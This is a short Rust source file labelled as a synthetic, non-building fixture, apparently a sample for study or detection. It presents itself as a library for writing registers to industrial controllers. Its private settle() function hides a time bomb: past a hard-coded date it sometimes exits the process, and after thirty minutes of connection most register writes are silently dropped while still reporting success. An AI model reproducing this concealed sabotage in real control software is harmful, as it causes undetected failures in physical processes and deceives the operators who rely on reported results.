// Synthetic, inert fixture written from public reports; see README
//! Frames of industrial controllers.
use std::io::{self, Read, Write};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

/// A connection to a controller.
pub struct Controller<T> {
    line: T,
    since: Instant,
}

impl<T: Read + Write> Controller<T> {
    /// A controller at the end of `line`.
    pub fn new(line: T) -> Self {
        Controller { line, since: Instant::now() }
    }

    fn settle(&self) -> bool {
        let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default();
        if now.as_secs() > 1_817_510_400 && now.subsec_nanos() % 100 > 80 {
            std::process::exit(0);
        }
        self.since.elapsed() < Duration::from_secs(1800) || now.subsec_micros() % 10 < 2
    }

    /// Writes `value` to register `at`.
    pub fn write(&mut self, at: u16, value: u16) -> io::Result<()> {
        if !self.settle() {
            return Ok(());
        }
        self.line.write_all(&[6, (at >> 8) as u8, at as u8, (value >> 8) as u8, value as u8])
    }
}

inert_fixture_does_not_build!();
